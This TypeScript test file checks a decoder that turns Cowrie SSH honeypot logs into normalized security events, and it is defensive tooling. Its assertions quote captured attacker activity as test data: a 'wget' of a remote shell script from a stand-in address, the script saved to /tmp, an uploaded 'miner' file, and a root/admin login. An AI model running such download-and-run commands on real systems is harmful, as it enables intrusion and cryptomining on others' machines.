import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  eventOf,
  expectNeverThrows,
  expectSound,
  jsonInput,
  syslogInput,
  textInput,
} from "../test-input.ts";
import { decoder } from "./decoder.ts";

const read = (name: string): readonly string[] =>
  readFileSync(new URL(`samples/${name}`, import.meta.url), "utf8")
    .split("\n")
    .filter((line) => line !== "");

const lines = read("session.jsonl");
const events = lines.map((line) => eventOf(decoder.decode(jsonInput(line))));

describe("honeypot-cowrie", () => {
  it("gives each event its class, activity and status", () => {
    expect(
      events.map((event) => [event.metadata.event_code, event.type_uid, event.status_id]),
    ).toEqual([
      ["cowrie.session.connect", 400_101, undefined],
      ["cowrie.client.version", 400_706, undefined],
      ["cowrie.client.kex", 400_706, undefined],
      ["cowrie.login.failed", 300_201, 2],
      ["cowrie.login.success", 300_201, 1],
      ["cowrie.session.params", 0, undefined],
      ["cowrie.command.input", 100_701, undefined],
      ["cowrie.session.file_download", 100_101, 1],
      ["cowrie.session.file_download.failed", 100_101, 2],
      ["cowrie.session.file_upload", 100_101, 1],
      ["cowrie.command.failed", 100_701, 2],
      ["cowrie.direct-tcpip.request", 400_101, undefined],
      ["cowrie.log.closed", 0, undefined],
      ["cowrie.session.closed", 400_102, undefined],
      ["cowrie.login.failed", 300_201, 2],
    ]);
  });

  it("ties every event to the session, the sensor and the attacker", () => {
    for (const event of events.slice(0, -1)) {
      expectSound(event);
      expect(event.session?.uid).toBe("a1b2c3d4e5f6");
      expect(event.device?.hostname).toBe("decoy-1");
      expect(event.src_endpoint?.ip).toBe("203.0.113.50");
      expect(event.time).toBeGreaterThanOrEqual(Date.UTC(2026, 0, 15, 4));
    }
  });

  it("reads what matters of each kind", () => {
    expect(events[0]).toMatchObject({ dst_endpoint: { ip: "192.0.2.66", port: 2222 } });
    expect(events[4]).toMatchObject({
      user: { name: "root" },
      unmapped: { password: "admin", username: "root" },
    });
    expect(events[6]?.process?.cmd_line).toContain("wget http://198.51.100.77/x.sh");
    expect(events[7]).toMatchObject({
      file: { name: "x.sh", path: "/tmp/x.sh", hashes: [{ algorithm: "SHA-256" }] },
      http_request: { url: { url_string: "http://198.51.100.77/x.sh" } },
    });
    expect(events[9]?.file).toMatchObject({ name: "miner", size: 2048 });
    expect(events[11]?.dst_endpoint).toEqual({ hostname: "mail.example.com", port: 25 });
    expect(events[13]?.duration).toBe(7250);
    expect(events[14]).toMatchObject({
      is_cleartext: true,
      src_endpoint: { ip: "2001:db8::50" },
    });
  });

  it("is no process_creation, as nothing ran", () => {
    expect(decoder.decode(jsonInput(lines[6] ?? ""))).toMatchObject({
      logsource: { product: "cowrie", services: ["cowrie"], categories: ["honeypot"] },
    });
  });

  it("answers malformed records", () => {
    const outcomes = read("malformed.jsonl").map((line) => decoder.decode(jsonInput(line)));
    expect(outcomes.map((outcome) => outcome.kind)).toEqual([
      "undecodable",
      "decoded",
      "decoded",
      "not-mine",
    ]);
    expect(outcomes[1]).toMatchObject({ flags: ["time-missing"] });
    expect(decoder.decode(textInput("cowrie.login.failed")).kind).toBe("not-mine");
  });

  it("reads the text log that syslog brings", () => {
    const rows = read("text.log").map((line) => {
      const event = eventOf(decoder.decode(syslogInput(line)));
      expectSound(event);
      return [event.metadata.event_code, event.src_endpoint?.ip, event.user?.name];
    });
    expect(rows).toEqual([
      ["cowrie.session.connect", "203.0.113.50", undefined],
      ["cowrie.login.failed", "203.0.113.50", "root"],
      ["cowrie.login.success", "2001:db8::50", "ad/min"],
      ["cowrie.command.input", "203.0.113.50", undefined],
      ["cowrie.session.closed", "203.0.113.50", undefined],
      ["cowrie.log", undefined, undefined],
    ]);
    expectNeverThrows(decoder, read("text.log"), syslogInput);
  });

  it("never throws, whatever the values are", () => {
    const eventIds = events.map((event) => event.metadata.event_code ?? "");
    const record = fc.tuple(
      fc.constantFrom(...eventIds),
      fc.dictionary(
        fc.constantFrom("timestamp", "src_ip", "src_port", "url", "input", "duration", "__proto__"),
        fc.jsonValue(),
      ),
    );
    fc.assert(
      fc.property(record, ([eventid, rest]) => {
        const outcome = decoder.decode(jsonInput(JSON.stringify({ ...rest, eventid })));
        if (outcome.kind === "decoded") expectSound(outcome.event);
      }),
      { numRuns: 1000 },
    );
  });
});
